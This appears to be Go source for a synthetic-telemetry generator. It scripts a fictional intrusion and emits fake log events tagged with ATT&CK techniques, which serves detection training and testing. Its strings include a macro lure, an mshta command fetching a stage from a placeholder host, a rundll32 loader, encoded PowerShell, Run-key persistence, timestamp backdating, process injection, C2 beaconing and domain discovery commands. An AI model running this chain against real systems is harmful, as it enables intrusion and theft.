package synth

import (
	"encoding/base64"
	"time"
)

// The intruder's places. Nothing of it exists.
const (
	lureSite    = "careers.northgate-capital.example"
	lureAddress = "203.0.113.20"
	shortSite   = "lnk-go.example"
	stageSite   = "cdn-telemetry.example"
	stageServer = "198.51.100.23"
	control     = "203.0.113.77"
	controlPort = 4430
	controlSite = "glyph-sync.example"
	vpnAddress  = "198.51.100.140"

	fonts    = `C:\ProgramData\Microsoft\Fonts\`
	loader   = fonts + "glyphsvc.dll"
	payload  = fonts + "glyphcache.dat"
	taskName = `\Microsoft\Windows\Fonts\GlyphSync`
	run      = `rundll32.exe ` + loader + `,Render ` + payload + ` demo-key-0000`
	archive  = `C:\$Recycle.Bin\S-1-5-18\thumbs.db`
	wallets  = `D:\Treasury\Wallets\`
)

// plot queues everything the intruder does, day by day.
func (w *world) plot() {
	w.dayLure()
	w.dayLoader()
	w.dayPersistence()
	w.dayFileServer()
	w.dayController()
	w.dayDefences()
	w.dayTreasury()
	w.dayTheft()
	w.dayRemoval()
}

// encoded is text as PowerShell takes it encoded.
func encoded(text string) string {
	var b []byte
	for _, c := range []byte(text) {
		b = append(b, c, 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// dayLure: a message on a professional network, a document, a script host that looks at the machine.
func (w *world) dayLure() {
	h, at := w.ws, func(clock string) time.Time { return w.at(1, clock) }
	a, browser := h.account(mara), h.processes["chrome"]
	lure := did("lure downloaded from the link in a direct message", "T1566.003", "T1204.001")
	h.lookup(at("10:12:03"), browser, lureSite, lureAddress, lure)
	h.connect(at("10:12:04"), browser, peer{lureAddress, lureSite, 443}, lure)
	document := `C:\Users\m.lindqvist\Downloads\Northgate_Compensation_Protected.docm`
	h.download(at("10:12:09"), browser, document, "https://"+lureSite+"/offer/Northgate_Compensation_Protected.docm", lure)

	word := `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	doc := h.spawn(at("10:14:31"), h.processes["explorer"], program{word, `"` + word + `" /n "` + document + `" /o ""`}, a, did("\"protected\" document opened in Word", "T1204.002"))
	h.file(at("10:14:34"), doc, `C:\Users\m.lindqvist\AppData\Roaming\Microsoft\Office\Recent\Northgate_Compensation_Protected.docm.LNK`, nil)
	h.setValue(at("10:15:02"), doc, `HKU\`+string(mara.sid())+`\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords\%USERPROFILE%/Downloads/Northgate_Compensation_Protected.docm`,
		"Binary Data", did("content of the document enabled", "T1204.002"))
	h.file(at("10:15:04"), doc, `C:\Users\m.lindqvist\AppData\Local\Temp\Password.txt.lnk`, did("Word writes a shortcut with a double ending", "T1204.002", "T1036.007"))

	hta := h.spawn(at("10:15:07"), doc, program{sys32 + "mshta.exe", `"C:\Windows\System32\mshta.exe" https://` + shortSite + `/k3demo`}, a, did("shortcut starts mshta with a shortened link", "T1218.005", "T1204.002"))
	h.lookup(at("10:15:08"), hta, shortSite, lureAddress, did("mshta looks for the link's server", "T1218.005", "T1071.001"))
	h.connect(at("10:15:09"), hta, peer{lureAddress, shortSite, 443}, did("mshta fetches the next stage", "T1105", "T1071.001"))
	vbs := `C:\Users\m.lindqvist\AppData\Local\Temp\profile-demo.vbs`
	h.file(at("10:15:11"), hta, vbs, did("script left in the temporary folder", "T1105"))
	host := h.spawn(at("10:15:13"), hta, program{sys32 + "wscript.exe", `"C:\Windows\System32\wscript.exe" //B //E:vbscript "` + vbs + `"`}, a, did("script host started by mshta", "T1059.005"))
	look := did("script host looks at the machine before a next stage comes", "T1082", "T1057")
	for i, c := range [][2]string{{"systeminfo.exe", "systeminfo"}, {"tasklist.exe", "tasklist /v"}, {"ipconfig.exe", "ipconfig /all"}} {
		t := at("10:15:20").Add(time.Duration(i) * 6 * time.Second)
		shell := h.spawn(t, host, program{sys32 + "cmd.exe", `"C:\Windows\System32\cmd.exe" /c ` + c[1]}, a, look)
		h.exit(t.Add(3*time.Second), h.spawn(t.Add(200*time.Millisecond), shell, program{sys32 + c[0], c[1]}, a, look))
		h.exit(t.Add(4*time.Second), shell)
	}
	h.lookup(at("10:16:01"), host, stageSite, stageServer, did("script host reports to its server", "T1071.001"))
	h.connect(at("10:16:02"), host, peer{stageServer, stageSite, 8443}, did("script host reports to its server on an odd port", "T1571", "T1041"))
	h.processes["script"] = host
}

// dayLoader: a loader that reads an innocent looking file and moves into explorer.exe; a burst of questions.
func (w *world) dayLoader() {
	h, at := w.ws, func(clock string) time.Time { return w.at(2, clock) }
	a, script := h.account(mara), h.processes["script"]
	detected := []any{"{" + h.guid("detection").String() + "}", "2026-03-03T09:40:11.000Z", "", "", "2147700001", "Trojan:Script/Demonstration.A!test", "5", "Severe", "8", "Trojan", "", "1", "", "1", "3", "%%818",
		sys32 + "wscript.exe", a.full(), "", `file:_C:\Users\m.lindqvist\AppData\Local\Temp\stage-demo.tmp`, "1", "%%845", "1", "%%813", "8", "%%862", "0", "9", "%%887", "", "0x00000000",
		"The operation completed successfully. ", "", "0", "0", "No additional actions required", "", "", "AV: 1.405.1022.0, AS: 1.405.1022.0, NIS: 1.405.1022.0", "AM: 1.1.24010.10, NIS: 1.1.24010.10"}
	h.defender(at("09:40:11"), defDetected, did("Defender notices a first attempt", "T1059.005"), detected...)
	h.defender(at("09:40:15"), defActed, did("Defender removes the first attempt", "T1059.005"), detected...)

	h.file(at("09:52:40"), script, loader, did("loader left among the fonts", "T1105", "T1036.005"))
	h.file(at("09:52:43"), script, payload, did("encrypted file with an innocent name and ending", "T1027", "T1036.008"))
	h.backdate(at("09:52:47"), script, loader, w.o.Start.AddDate(-5, 1, 11), did("loader's time of creation set back five years", "T1070.006"))
	h.backdate(at("09:52:48"), script, payload, w.o.Start.AddDate(-5, 1, 11), did("payload's time of creation set back five years", "T1070.006"))
	dll := h.spawn(at("09:53:05"), script, program{sys32 + "rundll32.exe", run}, a, did("loader run by rundll32 with a key on its command line", "T1218.011", "T1140"))
	h.load(at("09:53:06"), dll, loader, false, did("unsigned library loaded out of a data folder", "T1218.011"))
	shell := h.processes["explorer"]
	h.openProcess(at("09:53:09"), dll, shell, 0x1fffff, did("loader opens explorer.exe with all rights", "T1055.002"))
	h.inject(at("09:53:10"), dll, shell, did("loader starts a thread in explorer.exe", "T1055.002"))
	h.exit(at("09:53:12"), dll)
	h.beacon(h.processes["explorer"], at("09:53:30"), 6*time.Hour, 31*time.Minute)

	ps := h.spawn(at("10:05:00"), shell, program{sys32 + `WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand ` + encoded("Write-Output 'demo'")}, a,
		did("PowerShell with an encoded command and a hidden window", "T1059.001", "T1027.010", "T1564.003"))

	h.engine(at("10:05:01"), ps)
	h.script(at("10:05:02"), ps, "Write-Output 'demo'", "", did("what the encoded command says", "T1059.001"))
	h.exit(at("10:05:04"), ps)
	h.file(at("10:06:10"), shell, `C:\Users\m.lindqvist\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\Font Cache.lnk`, did("shortcut in the startup folder", "T1547.009", "T1547.001"))
	h.setValue(at("10:06:20"), shell, `HKU\`+string(mara.sid())+`\Software\Microsoft\Windows\CurrentVersion\Run\GlyphCache`, run, did("loader in the Run key", "T1547.001"))
	h.burst(at("10:31:00"), shell, a)
}

// beacon asks the control server for work, again and again.
func (h *host) beacon(p *process, from time.Time, long, every time.Duration) {
	m := did("injected process talks to the control server on an odd port", "T1571", "T1071.001")
	for t := from; t.Before(from.Add(long)); t = t.Add(every + h.soon(40*time.Second)) {
		h.lookup(t, p, controlSite, control, m)
		h.connect(t.Add(300*time.Millisecond), p, peer{control, controlSite, controlPort}, m)
	}
}

// burst asks what an intruder asks first, within three minutes.
func (h *host) burst(t time.Time, parent *process, a account) {
	m := did("burst of questions about the machine, its users and the domain", "T1033", "T1082", "T1016", "T1087.002", "T1069.002", "T1049", "T1057", "T1482", "T1018", "T1135")
	shell := h.spawn(t, parent, program{sys32 + "cmd.exe", `cmd.exe /q`}, a, m)
	for i, c := range [][2]string{
		{"whoami.exe", "whoami /all"}, {"HOSTNAME.EXE", "hostname"}, {"systeminfo.exe", "systeminfo"}, {"ipconfig.exe", "ipconfig /all"}, {"net.exe", "net user /domain"},
		{"net.exe", `net group "Domain Admins" /domain`}, {"net.exe", "net view /domain:" + domain}, {"net.exe", "net use"}, {"quser.exe", "quser"}, {"NETSTAT.EXE", "netstat -ano"},
		{"tasklist.exe", "tasklist /v"}, {"nltest.exe", "nltest /domain_trusts"}, {"wevtutil.exe", `wevtutil qe Security /q:"*[System[(EventID=4624)]]" /c:20 /rd:true /f:text`},
		{"PING.EXE", "ping -n 1 lks-fs01"}, {"PING.EXE", "ping -n 1 lks-dc01"},
	} {
		p := h.spawn(t.Add(time.Duration(i+1)*9*time.Second+h.soon(4*time.Second)), shell, program{sys32 + c[0], c[1]}, a, m)
		h.exit(p.start.Add(900*time.Millisecond), p)
	}
	h.exit(t.Add(4*time.Minute), shell)
}
